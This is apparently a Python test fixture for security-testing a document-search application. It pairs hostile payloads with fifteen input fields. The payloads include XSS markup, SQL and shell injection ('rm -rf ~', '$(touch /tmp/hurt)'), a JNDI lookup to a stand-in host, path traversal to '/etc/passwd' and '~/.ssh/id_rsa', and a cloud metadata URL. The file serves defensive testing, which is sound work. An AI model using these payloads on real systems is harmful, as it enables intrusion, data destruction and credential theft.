"""Hostile inputs: payloads of five kinds, and the places where somebody can put each, together over five hundred."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from enum import StrEnum

OUTSIDE = "outside.example"
"""The site that a payload would have the browser ask."""


class Kind(StrEnum):
    """What a payload tries."""

    MARKUP = "markup"
    SYNTAX = "syntax"
    CHARACTERS = "characters"
    PATH = "path"
    LONG = "long"


class Place(StrEnum):
    """Where a payload is put."""

    QUESTION = "question"
    TEXT = "document text"
    TITLE = "title"
    PUBLISHER = "publisher"
    URL = "url of a document"
    FILE_NAME = "file name"
    MANIFEST = "manifest entry"
    MEMBER = "name in an archive"
    TYPED_URL = "typed url"
    SET_QUESTION = "question of a set"
    SET_TAG = "tag, id and note of a set"
    DOCUMENT_PATH = "path of a document"
    RUN_PATH = "path of a run"
    PAGE_PATH = "path of a page"
    FILE_PATH = "path of an upload"


@dataclass(frozen=True, slots=True)
class Payload:
    """A text that is meant to do harm, with a name to find it by."""

    kind: Kind
    name: str
    text: str


@dataclass(frozen=True, slots=True)
class Input:
    """A payload in a place; ``number`` tells it apart in the page."""

    number: int
    place: Place
    payload: Payload

    @property
    def id(self) -> str:
        return f"{self.place.value}: {self.payload.name}"

    @property
    def word(self) -> str:
        """A word that no other input has."""
        return f"zebra{self.number:03}"


_HURT = "window.hurt=1"

_MARKUP = {
    "script": f"<script>{_HURT}</script>",
    "script from outside": f"<script src=https://{OUTSIDE}/a.js></script>",
    "script, closed twice": f"</script><script>{_HURT}</script>",
    "image that fails": f'<img src=x onerror="{_HURT}">',
    "image from outside": f'<img src="https://{OUTSIDE}/a.png">',
    "image in Markdown": f"![a](https://{OUTSIDE}/a.png)",
    "link in Markdown": f"[a](javascript:{_HURT})",
    "svg": f"<svg onload={_HURT}>",
    "svg with a script": f"<svg><script>{_HURT}</script></svg>",
    "frame": f'<iframe srcdoc="<script>parent.{_HURT}</script>"></iframe>',
    "frame from outside": f'<iframe src="https://{OUTSIDE}"></iframe>',
    "details": f"<details open ontoggle={_HURT}>",
    "out of an attribute": f'"><img src=x onerror={_HURT}>',
    "into an attribute": f'" autofocus onfocus="{_HURT}',
    "into an attribute, single": f"' onmouseover='{_HURT}",
    "javascript link": f"javascript:{_HURT}",
    "data link": f"data:text/html,<script>{_HURT}</script>",
    "style from outside": f"<style>@import 'https://{OUTSIDE}/a.css';</style>",
    "link from outside": f'<link rel=stylesheet href="https://{OUTSIDE}/a.css">',
    "base": f'<base href="https://{OUTSIDE}/">',
    "refresh": f'<meta http-equiv=refresh content="0;url=https://{OUTSIDE}/">',
    "form": f'<form action="https://{OUTSIDE}/"><input autofocus><button>go</button></form>',
    "gradio component": f'<gradio-app src="https://{OUTSIDE}/"></gradio-app>',
    "template of JavaScript": "${window.hurt=1}",
    "template of Handlebars": "{{#with (lookup this 'constructor')}}{{{window.hurt=1}}}{{/with}}",
    "template of Jinja": "{{ ''.__class__.__mro__ }}{% for a in [1] %}x{% endfor %}",
    "entities": "&lt;script&gt;window.hurt=1&lt;/script&gt;",
    "mathematics": r"$$\href{javascript:window.hurt=1}{a}$$",
    "video": f"<video><source onerror={_HURT}></video>",
    "old browsers": f"<scr\x00ipt>{_HURT}</scr\x00ipt>",
}

_SYNTAX = {
    "SQL quote": "'; DROP TABLE document; --",
    "SQL union": "' UNION SELECT data FROM original --",
    "SQL double quote": '" OR 1=1 --',
    "FTS operators": "zebra AND OR NOT NEAR(",
    "FTS column": "title:* ^zebra",
    "FTS quotes": '"zebra" "" """',
    "tantivy range": "id:[* TO *]",
    "tantivy boost": "zebra^1e309 ~9999",
    "tantivy regex": "/(a+)+$/",
    "parentheses": "((((((((((",
    "wildcards": "* ? % _",
    "format": "%s%n {0} {question!r} %(a)s",
    "shell": "$(touch /tmp/hurt) `id` | cat; rm -rf ~",
    "LDAP and JNDI": "*)(uid=*))(|(uid=* ${jndi:ldap://outside.example/a}",
    "headers": "a\r\nSet-Cookie: a=b\r\n\r\n<script>window.hurt=1</script>",
    "formula": '=HYPERLINK("https://outside.example","a")',
}

_CHARACTERS = {
    "NUL": "zeb\x00ra",
    "control": "".join(map(chr, range(1, 32))) + "\x7f\x80\x9f",
    "escape sequences": "\x1b[2J\x1b]8;;https://outside.example\x07a",
    "bidi override": "\u202egpj.exe\u202c",
    "bidi isolates": "\u2066\u2067\u2068zebra",
    "zero width": "z\u200be\u200cb\u200dr\ufeffa",
    "half of a character": "zebra \ud83d",
    "halves in a wrong order": "\ude00\ud83d",
    "no characters": "\uffff\ufffe\U0010ffff",
    "combining": "z" + "\u0301" * 500,
    "line separators": "a\u2028b\u2029c\x85d",
    "tags": "\U000e0041\U000e0042zebra",
    "private": "\ue000\uf8ff",
}

_PATHS = {
    "up": "../../../../etc/passwd",
    "up, encoded": "..%2f..%2f..%2fetc%2fpasswd",
    "up, encoded twice": "..%252f..%252fetc%252fpasswd",
    "up, backslashes": "..\\..\\..\\windows\\win.ini",
    "absolute": "/etc/passwd",
    "home": "~/.ssh/id_rsa",
    "audit log": "../library/audit.sqlite",
    "file link": "file:///etc/passwd",
    "device": "CON.md",
    "hidden": ".md",
    "dots": "...",
    "NUL in a path": "a.md\x00.png",
    "inner host": "http://169.254.169.254/latest/meta-data/",
}

_LONG = {"a million characters": "zebra " * 170_000, "ten thousand marks": "<b>" * 10_000}


def payloads() -> list[Payload]:
    """All of them."""
    kinds = {
        Kind.MARKUP: _MARKUP,
        Kind.SYNTAX: _SYNTAX,
        Kind.CHARACTERS: _CHARACTERS,
        Kind.PATH: _PATHS,
        Kind.LONG: _LONG,
    }
    return [Payload(kind, name, text) for kind, texts in kinds.items() for name, text in texts.items()]


def inputs() -> list[Input]:
    """Every payload in every place that can hold it."""
    return [Input(number, place, payload) for number, (place, payload) in enumerate(_pairs(), start=1)]


def sample() -> list[Input]:
    """Two inputs of each place, of different kinds."""
    chosen = []
    for number, place in enumerate(Place):
        there = [each for each in inputs() if each.place is place]
        chosen += [there[number * 2 % 23], next(each for each in reversed(there) if each.payload.kind is not Kind.LONG)]
    return chosen


def _pairs() -> Iterator[tuple[Place, Payload]]:
    for place in Place:
        for payload in payloads():
            if payload.kind is not Kind.LONG or place in {Place.QUESTION, Place.TEXT, Place.TITLE, Place.SET_QUESTION}:
                yield place, payload
